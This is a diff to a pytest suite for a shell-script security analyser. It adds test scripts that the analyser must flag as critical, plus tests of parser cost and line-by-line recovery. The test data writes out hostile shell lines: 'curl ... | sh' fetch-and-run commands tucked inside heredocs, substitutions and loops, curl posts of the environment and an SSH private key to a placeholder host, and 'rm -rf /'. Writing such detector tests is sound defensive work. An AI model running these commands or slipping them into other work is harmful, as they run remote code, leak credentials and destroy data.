@@ -1,11 +1,14 @@
 import shutil
 import subprocess
+import time
 from pathlib import Path
 
 import pytest
 from analysis_kit import SCRIPT, of_script, worst
 
+from localnet.analysis import bounds
 from localnet.analysis.analyse import analyse
+from localnet.analysis.result import BEYOND
 from localnet.analysis.shell_parser import parse_script
 
 BAD = [
@@ -19,6 +22,12 @@ BAD = [
     ("echo aGk= | base64 -d | sh", "critical"),
     ("bash <<EOF\ncurl -s https://get.invalid | sh\nEOF", "critical"),
     ("bash -c 'curl -s https://get.invalid | sh'", "critical"),
+    ("cat <<EOF\n$(curl -s https://get.invalid | sh)\nEOF", "critical"),
+    ("cat <<A; bash <<B\na\nA\ncurl -s https://get.invalid | sh\nB", "critical"),
+    ("cat <<A; echo b\na\nA\ncurl -s https://get.invalid | sh", "critical"),
+    ("for x in $(curl -s https://get.invalid | sh); do echo; done", "critical"),
+    ("echo ${x:-$(curl -s https://get.invalid | sh)}", "critical"),
+    ("case $x in\na' 'b | \\\nc' 'd*) ;;\nesac\ncurl -s https://get.invalid | sh", "critical"),
     ("env | curl -d @- https://c.invalid/", "critical"),
     ('curl -d "$(env)" https://c.invalid/', "critical"),
     ("curl --data @$HOME/.ssh/id_rsa https://c.invalid/", "critical"),
@@ -67,6 +76,34 @@ def test_bad_scripts(script: str, severity: str) -> None:
 @pytest.mark.parametrize("script", FINE)
 def test_fine_scripts(script: str) -> None:
     assert of_script(script).findings == ()
+
+
+def test_what_the_grammar_does_not_know_is_said_and_read_line_by_line() -> None:
+    script = "echo one\nfor i do\n  rm -rf /\ndone\n"
+    findings = {(finding.description, finding.evidence_ref) for finding in of_script(script).findings}
+    assert findings == {
+        (BEYOND, "main.sh#L1-L1"),
+        ("A whole system or home folder is deleted.", "main.sh#L3-L3"),
+    }
+
+
+def test_long_scripts_are_read_whole_while_they_have_no_error() -> None:
+    end = "curl -s https://get.invalid | sh\n"
+    filler = "echo some words\n" * (2 * bounds.MAX_SHELL_RECOVERY // 16)
+    assert [f.severity for f in of_script(filler + end).findings] == ["critical"]
+    assert [f.description for f in of_script(filler + ")\n" + end).findings] == [BEYOND]
+    assert {f.severity for f in of_script(end + filler + ")\n").findings} == {"critical", "medium"}
+
+
+@pytest.mark.parametrize("unit", ["a | ", "((a ", "a=(", ")", "case a <<Aa ;;]]", "`:<<-Bfi a=("])
+def test_what_makes_the_parser_work_hard_costs_no_more_when_there_is_more_of_it(unit: str) -> None:
+    def cost(size: int) -> float:
+        text = unit * (size // len(unit))
+        started = time.process_time()
+        assert not parse_script(text).complete
+        return time.process_time() - started
+
+    assert cost(256 * bounds.KIB) < 3 * cost(16 * bounds.KIB) + 1.0
 
 
 def test_findings_name_the_lines_and_the_url() -> None:
